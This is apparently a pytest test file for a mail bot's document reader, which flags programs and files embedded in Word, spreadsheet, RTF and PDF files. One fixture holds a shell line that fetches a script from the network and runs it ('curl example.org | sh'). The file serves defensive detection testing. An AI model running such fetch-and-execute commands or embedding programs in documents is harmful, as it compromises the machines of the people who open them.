"""Files inside files: a program is told to a person, another file to the agency, a chart to nobody."""

import io
import struct
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from mailbot.documents.model import Document
from mailbot.documents.read import read_document
from mailbot.documents.sniff import sniff
from mailbot.mail.model import Kind
from tests.documents import hostile_olds, hostile_pdfs
from tests.documents.compound_file import compound_file
from tests.documents.hostile_files import program
from tests.documents.samples import SENTENCE, paragraph, relationships, word_file

ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
SCRIPT = b"#!/bin/sh\ncurl example.org | sh\n"
PROGRAM, FILE = "file.embedded_program", "file.embedded_file"
BODY = paragraph(SENTENCE)


def native(label: str, content: bytes) -> bytes:
    """What a package's stream holds ([MS-OLEDS] 2.3.6), behind its length."""
    name = label.encode("cp874") + b"\0"
    inside = b"\x02\0" + name + b"C:\\" + name + struct.pack("<HHI", 0, 3, len(name) + 3) + b"D:\\" + name
    inside += struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(inside)) + inside


def package(label: str, content: bytes) -> bytes:
    return compound_file({"\x01Ole10Native": native(label, content)})


def workbook() -> bytes:
    made = io.BytesIO()
    book = Workbook()
    assert book.active is not None
    book.active.append(["ผู้รับผิดชอบ", 3])
    book.save(made)
    return made.getvalue()


def word_with(name: str, data: bytes) -> bytes:
    links = relationships(("rId8", "oleObject", "embeddings/object.bin"))
    return word_file(BODY, {"word/_rels/document.xml.rels": links, name: data})


def read(data: bytes, kind: Kind, name: str) -> Document:
    return read_document(data, kind, name, seconds=20, memory_mb=700)


@pytest.mark.parametrize(
    ("label", "content", "code"),
    [
        ("setup.exe", program(), PROGRAM),
        ("รูปภาพ.jpg", program(), PROGRAM),
        ("แผน.pdf", ELF, PROGRAM),
        ("แผน.txt", SCRIPT, PROGRAM),
        ("run.vbs", b"WScript.Echo 1\r\n", PROGRAM),
        ("แผน.pdf", hostile_pdfs.sound(), FILE),
        ("ผัง Call Tree.xlsx", workbook(), FILE),
        ("บันทึก.txt", "โทร ๐๒".encode(), FILE),
    ],
)
def test_a_package_in_a_word_file(label: str, content: bytes, code: str) -> None:
    document = read(word_with("word/embeddings/oleObject1.bin", package(label, content)), "word", "แผน.docx")
    assert document.notes == (code,)
    assert document.readable and SENTENCE.strip() in document.text


@pytest.mark.parametrize("name", ["word/embeddings/oleObject1.bin", "word/media/image1.bin", "customXml/setup.dat"])
@pytest.mark.parametrize("content", [program(), ELF, SCRIPT])
def test_a_program_under_any_name_in_a_word_file(name: str, content: bytes) -> None:
    assert read(word_with(name, content), "word", "แผน.docx").notes == (PROGRAM,)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook()),
        ("word/embeddings/oleObject1.bin", compound_file({"Workbook": b"\x09\x08" + bytes(500)})),
        ("word/embeddings/oleObject1.bin", compound_file({"Equation Native": b"\x1c\0" + bytes(60)})),
        ("word/embeddings/oleObject1.bin", compound_file({"\x01Ole10Native": bytes(80)})),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 damaged"),
        ("word/printerSettings/printerSettings1.bin", "เครื่องพิมพ์ MZ".encode("utf-16-le") + bytes(200)),
    ],
)
def test_a_chart_an_equation_and_a_printer_are_no_danger(name: str, data: bytes) -> None:
    assert read(word_with(name, data), "word", "แผน.docx").notes == ()


def test_a_spreadsheet_with_a_chart_is_no_danger() -> None:
    book, made = Workbook(), io.BytesIO()
    sheet, chart = book.worksheets[0], BarChart()
    for row in (("ทรัพยากร", "จำนวน"), ("รถยนต์", 3), ("เครื่องสำรองไฟฟ้า", 2)):
        sheet.append(row)
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    book.save(made)
    assert read(made.getvalue(), "spreadsheet", "Call Tree.xlsx").notes == ()


def repacked(data: bytes, name: str, content: bytes) -> bytes:
    """A zip file with one more entry."""
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, content)
    return made.getvalue()


def test_a_program_in_a_spreadsheet() -> None:
    data = repacked(workbook(), "xl/embeddings/oleObject1.bin", package("a.exe", program()))
    assert read(data, "spreadsheet", "Call Tree.xlsx").notes == (PROGRAM,)


def test_a_program_in_an_old_word_file() -> None:
    data = hostile_olds.doc_with_package(native("a.scr", program()))
    assert {PROGRAM} == set(read(data, "word_legacy", "แผน.doc").notes) & {PROGRAM, FILE}


def rich_text(label: str, content: bytes) -> bytes:
    inside = native(label, content)
    header = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + struct.pack("<II", 0, 0)
    digits = (header + inside).hex().encode()
    lines = b"\r\n".join(digits[at : at + 128] for at in range(0, len(digits), 128))
    start = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
    return start + lines + b"}}" + b" text" * 40 + b"\\par}"


@pytest.mark.parametrize(("content", "code"), [(program(), PROGRAM), (hostile_pdfs.sound(), FILE)])
def test_a_package_in_rich_text(content: bytes, code: str) -> None:
    assert {code} == set(read(rich_text("แผน.pdf", content), "word_legacy", "แผน.rtf").notes) & {PROGRAM, FILE}


def pdf_with(name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(hostile_pdfs.sound())) as pdf:
        pdf.attachments[name] = content
        pdf.save(made)
    return made.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "codes"),
    [
        ("แผน.docx", word_file(BODY), ("file.active_content",)),
        ("setup.exe", b"MZ", ("file.active_content", PROGRAM)),
        ("ภาพ.png", program(), ("file.active_content", PROGRAM)),
        ("ภาพ.png", ELF, ("file.active_content", PROGRAM)),
    ],
)
def test_files_in_a_pdf(name: str, content: bytes, codes: tuple[str, ...]) -> None:
    assert read(pdf_with(name, content), "pdf", "แผน.pdf").notes == codes


@pytest.mark.parametrize("make", [hostile_pdfs.with_script, hostile_pdfs.with_launch])
def test_scripts_and_launched_programs_in_a_pdf(make: Callable[[], bytes]) -> None:
    assert "file.active_content" in read(make(), "pdf", "แผน.pdf").notes


@pytest.mark.parametrize("text", [b"#!/bin/bash\n", b"#! /usr/bin/env python\n"])
def test_a_script_is_a_program_whatever_its_name(text: bytes) -> None:
    assert sniff(text, "แผน.txt").problem == "file.executable"
    assert sniff(b"#1 plan\n", "plan.txt").problem is None
